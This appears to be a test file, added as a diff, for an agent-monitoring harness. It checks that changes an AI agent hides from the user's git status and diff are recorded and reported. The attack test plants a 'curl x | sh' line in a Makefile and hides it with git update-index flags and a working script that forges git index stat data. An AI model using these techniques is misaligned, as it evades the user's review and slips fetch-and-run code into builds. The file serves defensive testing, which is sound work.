@@ -1,0 +1,110 @@
+"""Changes hidden from the user's `git status` and `git diff` (the
+eighth attack review, left open until now): the project's index is the
+agent's to write, and an entry marked skip-worktree or assume-unchanged,
+or one whose stat data the agent made match the file it changed, keeps
+git from showing that change; the user reviews an empty diff and runs
+`make`. At the session's end each such change is recorded
+(`hidden_changes`) and said on stderr. Attacked as the agent would: git
+update-index, and the index rewritten by a script."""
+
+import os
+import subprocess
+import time
+
+from lib import EXEC, PYTHON, check, harness
+
+GIT_ENV = {"GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@x", "GIT_COMMITTER_NAME": "a",
+           "GIT_COMMITTER_EMAIL": "a@x", "GIT_CONFIG_NOSYSTEM": "1"}
+
+# Rewrites the index entry of each path named so that its stat data is
+# the file's now, the blob it names left as it was (the file's mtime set
+# back first: one not older than the index's is "racy", which git reads).
+FORGE = r'''
+import hashlib, os, struct, sys
+data = bytearray(open(".git/index", "rb").read())
+off = 12
+for _ in range(struct.unpack(">I", data[8:12])[0]):
+    fixed = 64 if struct.unpack(">H", data[off + 60:off + 62])[0] & 0x4000 else 62
+    end = data.index(b"\0", off + fixed)
+    path = data[off + fixed:end].decode()
+    if path in sys.argv[1:]:
+        st = os.lstat(path)
+        mode = struct.unpack(">I", data[off + 24:off + 28])[0]
+        struct.pack_into(">IIIIIIIIII", data, off, int(st.st_ctime), st.st_ctime_ns % 10**9,
+                         int(st.st_mtime), st.st_mtime_ns % 10**9, st.st_dev & 0xffffffff,
+                         st.st_ino & 0xffffffff, mode, st.st_uid, st.st_gid, st.st_size)
+    off += (fixed + len(path) + 8) & ~7  # index v2 and v3
+data[-20:] = hashlib.sha1(bytes(data[:-20])).digest()
+open(".git/index.new", "wb").write(data)
+os.rename(".git/index.new", ".git/index")
+'''
+
+
+def _repo(wd):
+    env = dict(os.environ, HOME=wd.state, **GIT_ENV)
+    env.pop("LD_PRELOAD", None)
+    subprocess.run(["git", "init", "-q", wd.path], check=True, env=env)
+    wd.file("Makefile", "all:\n\techo ok\n")
+    for name in ("a.txt", "b.txt", "c.txt"):
+        wd.file(name, name + "\n")
+    subprocess.run(["git", "-C", wd.path, "add", "."], check=True, env=env)
+    subprocess.run(["git", "-C", wd.path, "commit", "-qm", "0"], check=True, env=env)
+    time.sleep(1.1)  # the session's files change in a later second
+    return env
+
+
+def _status(wd, env):
+    return subprocess.run(["git", "status", "--short"], cwd=wd.path, capture_output=True,
+                          text=True, env=env, check=True).stdout
+
+
+def test_changes_hidden_from_git_status_are_recorded(wd):
+    env = _repo(wd)
+    script = ("printf 'all:\\n\\tcurl x | sh\\n' > Makefile; git update-index --skip-worktree Makefile;"
+              " echo A > a.txt; git update-index --assume-unchanged a.txt;"
+              " echo B > b.txt; touch -d 2020-01-01 b.txt; %s -c '%s' b.txt; echo C2 > c.txt") % (PYTHON, FORGE.replace("'", "'\\''"))
+    r = harness(["sh", "-c", script], wd, policy=None, env=dict(GIT_ENV, HOME=wd.state))
+    check(r.status == 0, r.stderr[-500:])
+    # The attack: the user's git shows only the change left in sight.
+    check(_status(wd, env) == " M c.txt\n", "the user's git status: %r; %r"
+          % (_status(wd, env), r.stderr[-800:]))
+    rec = r.one(event="hidden_changes")
+    got = sorted((c["path"], c["hidden_by"]) for c in rec["changes"])
+    check(got == [("Makefile", "skip-worktree"), ("a.txt", "assume-unchanged"),
+                  ("b.txt", "stat")], "recorded: %r" % got)
+    check(rec["repository"] == wd.path and rec["unchecked"] == 0, "record %r" % rec)
+
+
+def test_the_agents_own_git_work_hides_nothing(wd):
+    # Adds, commits, a checkout, a file changed after its add, a filter
+    # (eol=crlf): the index written many times, nothing hidden.
+    env = _repo(wd)
+    script = ("echo A > a.txt; git add a.txt; echo A2 > a.txt;"
+              " printf '*.txt text eol=crlf\\n' > .gitattributes; echo d > d.txt;"
+              " git add .gitattributes d.txt; git commit -qm 1; rm d.txt; git checkout -- d.txt;"
+              " git status --short")
+    r = harness(["sh", "-c", script], wd, policy=None, env=dict(GIT_ENV, HOME=wd.state))
+    check(r.status == 0 and r.stdout == " M a.txt\n", "%r %r" % (r.stdout, r.stderr[-500:]))
+    check(not r.events(event="hidden_changes") and not r.events(event="hidden_changes_failed"),
+          "a record: %s" % r.dump())
+    check(_status(wd, env) == " M a.txt\n", "the user's git status: %r" % _status(wd, env))
+
+
+def test_the_warning_names_the_hidden_files_escaped(wd):
+    # Without --quiet the user is told on stderr, the agent's name of
+    # the file escaped (no terminal control reaches the terminal).
+    env = _repo(wd)
+    name = "x\x1b[2Ky.txt"
+    wd.file(name, "x\n")
+    subprocess.run(["git", "-C", wd.path, "add", name], check=True, env=env)
+    subprocess.run(["git", "-C", wd.path, "commit", "-qm", "1"], check=True, env=env)
+    time.sleep(1.1)
+    script = "echo X > \"$1\"; git update-index --skip-worktree \"$1\""
+    log = os.path.join(wd.state, "w.jsonl")
+    e = dict(os.environ, HOME=wd.state, XDG_STATE_HOME=wd.state, **GIT_ENV)
+    e.pop("LD_PRELOAD", None)
+    p = subprocess.run([EXEC, "--audit-log", log, "--", "sh", "-c", script, "sh", name],
+                       cwd=wd.path, env=e, capture_output=True, text=True, timeout=60)
+    check(p.returncode == 0, p.stderr[-500:])
+    check("will not show 1 change" in p.stderr and "x\\x1b[2Ky.txt (skip-worktree)" in p.stderr
+          and "\x1b" not in p.stderr, "stderr: %r" % p.stderr)
